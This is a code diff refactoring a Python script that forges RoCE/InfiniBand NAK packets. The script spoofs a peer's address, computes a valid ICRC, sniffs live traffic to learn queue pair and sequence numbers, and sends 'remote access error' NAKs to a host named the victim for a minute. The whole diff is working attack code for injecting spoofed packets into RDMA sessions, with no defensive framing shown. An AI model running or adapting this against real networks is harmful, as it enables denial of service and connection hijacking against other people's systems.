@@ -16,15 +16,26 @@ ACKNOWLEDGE = 0x11
 NAK_REMOTE_ACCESS = 0x62
 
 
-def nak(victim, peer, port, qpn, psn):
-    """UDP payload of the NAK; the kernel writes the headers that the ICRC counts as it finds them here."""
-    bth = struct.pack(">BBHII", ACKNOWLEDGE, 0x40, 0xFFFF, qpn, psn)
-    aeth = struct.pack(">I", NAK_REMOTE_ACCESS << 24)
-    length = 8 + len(bth) + len(aeth) + 4
+def packet(victim, peer, port, headers):
+    """UDP payload with these headers behind UDP's; the kernel writes the headers that the ICRC counts as it finds them here."""
+    length = 8 + len(headers) + 4
     ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, 17, 0xFFFF, socket.inet_aton(peer), socket.inet_aton(victim))
     udp = struct.pack(">HHHH", port, ROCE_PORT, length, 0xFFFF)
-    crc = zlib.crc32(b"\xff" * 8 + ip + udp + bth[:4] + b"\xff" + bth[5:] + aeth)
-    return bth + aeth + struct.pack("<I", crc)
+    crc = zlib.crc32(b"\xff" * 8 + ip + udp + headers[:4] + b"\xff" + headers[5:])
+    return headers + struct.pack("<I", crc)
+
+
+def bound(peer, port):
+    """A socket whose headers are those that packet() counts."""
+    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: DF and identification 0
+    sender.bind((peer, port))
+    return sender
+
+
+def nak(victim, peer, port, qpn, psn):
+    bth = struct.pack(">BBHII", ACKNOWLEDGE, 0x40, 0xFFFF, qpn, psn)
+    return packet(victim, peer, port, bth + struct.pack(">I", NAK_REMOTE_ACCESS << 24))
 
 
 def main():
@@ -32,9 +43,7 @@ def main():
     sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL: what the peer's host sends, too
     sniffer.bind((interface, 3))
     sniffer.settimeout(0.2)
-    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: DF and identification 0
-    sender.bind((peer, port))
+    sender = bound(peer, port)
     qpn, sent = None, 0
     end = time.monotonic() + 60
     while time.monotonic() < end:
